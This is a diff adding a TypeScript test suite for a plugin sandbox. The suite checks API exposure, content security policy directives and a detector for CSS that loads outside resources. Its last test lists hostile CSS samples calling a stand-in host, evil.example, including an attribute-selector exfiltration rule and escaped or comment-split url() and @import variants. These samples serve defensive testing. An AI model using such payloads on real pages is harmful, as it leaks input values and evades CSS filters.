@@ -0,0 +1,95 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import vm from 'node:vm';
+import { runtimeSource, sandboxDocument, sandboxPolicy } from '../../src/plugins/sandboxFrame.js';
+import { stylesLoadResources } from '../../src/plugins/permissions.js';
+import type { HostMessage, WorkerMessage } from '../../src/plugins/protocol.js';
+
+// Reports what a hook can see of the APIs that reach outside the sandbox
+const PROBE = `{
+  id: 'probe',
+  name: 'Probe',
+  version: '1.0.0',
+  hooks: {
+    'quiz:passThreshold': function () {
+      return { broadcastChannel: typeof BroadcastChannel, importScripts: typeof importScripts, fetch: typeof fetch };
+    },
+  },
+}`;
+
+// The plugin runtime in a fresh realm that starts with the worker APIs in question
+function startRuntime() {
+  const posted: WorkerMessage[] = [];
+  const context = vm.createContext({
+    console,
+    BroadcastChannel,
+    fetch,
+    importScripts: () => {},
+    // Cloned like a real postMessage, which also brings the objects into this realm
+    postMessage: (message: WorkerMessage) => posted.push(structuredClone(message)),
+  });
+  vm.runInContext(runtimeSource(), context);
+
+  const send = async (message: HostMessage) => {
+    await context.onmessage({ data: message });
+    return posted.at(-1);
+  };
+  return { send };
+}
+
+describe('plugin sandbox', () => {
+  it('never gives plugins BroadcastChannel or importScripts, whatever they are granted', async () => {
+    const runtime = startRuntime();
+    assert.equal((await runtime.send({ type: 'load', code: PROBE }))?.type, 'loaded');
+
+    const call: HostMessage = { type: 'call', id: 1, target: 'hook', name: 'quiz:passThreshold', args: [0.7], settings: {} };
+    assert.deepEqual(await runtime.send(call), {
+      type: 'result',
+      id: 1,
+      value: { broadcastChannel: 'undefined', importScripts: 'undefined', fetch: 'undefined' },
+    });
+
+    await runtime.send({ type: 'grant', permissions: ['network', 'storage'] });
+    const granted = (await runtime.send({ ...call, id: 2 })) as { value: Record<string, string> };
+    assert.deepEqual(granted.value, { broadcastChannel: 'undefined', importScripts: 'undefined', fetch: 'function' });
+  });
+
+  it('refuses remote scripts, including import(), and connections without the network permission', () => {
+    const directives = (policy: string) =>
+      Object.fromEntries(policy.split('; ').map(directive => [directive.split(' ')[0], directive.split(' ').slice(1).join(' ')]));
+
+    const locked = directives(sandboxPolicy([], 'abc'));
+    assert.equal(locked['default-src'], "'none'");
+    assert.equal(locked['script-src'], "'nonce-abc' 'unsafe-eval'");
+    assert.equal(locked['connect-src'], "'none'");
+
+    // Network opens connections only; scripts stay limited to the frame's own
+    const network = directives(sandboxPolicy(['network'], 'abc'));
+    assert.equal(network['script-src'], "'nonce-abc' 'unsafe-eval'");
+    assert.equal(network['connect-src'], '*');
+  });
+
+  it('puts the policy and a nonce-bound bootstrap into the frame document', () => {
+    const html = sandboxDocument([], 'abc');
+    assert.ok(html.includes(`content="${sandboxPolicy([], 'abc')}"`));
+    assert.ok(html.includes('<script nonce="abc">'));
+    // The runtime is embedded as a string, so nothing in it can close the script element early
+    assert.equal(html.match(/<\/script>/g)?.length, 1);
+  });
+
+  it('keeps plugin styles from loading anything, however the url() is written', () => {
+    assert.equal(stylesLoadResources('body::after{content:"12:00";background:var(--surface)}'), false);
+    assert.equal(stylesLoadResources('#3b82f6'), false);
+    for (const css of [
+      'input[value^="a"]{background:url(https://evil.example/a)}',
+      'URL("https://evil.example")',
+      '@import "https://evil.example/a.css";',
+      'background-image:-webkit-image-set("https://evil.example/a.png" 1x)',
+      'background:u\\72l(https://evil.example)',
+      'background:u\\rl(https://evil.example)',
+      '@im/**/port "https://evil.example/a.css"',
+    ]) {
+      assert.equal(stylesLoadResources(css), true, css);
+    }
+  });
+});